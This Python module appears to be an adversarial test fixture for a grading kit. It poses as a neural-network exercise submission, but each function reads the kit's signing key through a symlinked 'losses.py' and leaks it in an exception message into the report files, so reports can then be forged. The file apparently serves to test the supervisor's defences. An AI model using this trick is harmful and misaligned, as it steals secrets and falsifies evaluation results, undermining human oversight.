"""Adversarial: its sibling `losses.py` is a symbolic link to the kit's signing key. A
supervisor that follows the link copies the key into the submission as if it were a topic
module (a key that starts with a letter even parses as Python and reaches the worker);
this module reads it there and leaks it through an exception message into report.json and
results.json. With the key, any report can be signed."""

import os


def relu(x, *args, **kwargs):
    here = os.path.dirname(os.path.abspath(__file__))
    with open(os.path.join(here, "losses.py")) as f:
        raise ValueError("the key: " + f.read())


step = perceptron_predict = perceptron_train = dense_forward = sigmoid = tanh = relu
leaky_relu = prelu = elu = gelu = softmax = log_softmax = mlp_forward = relu
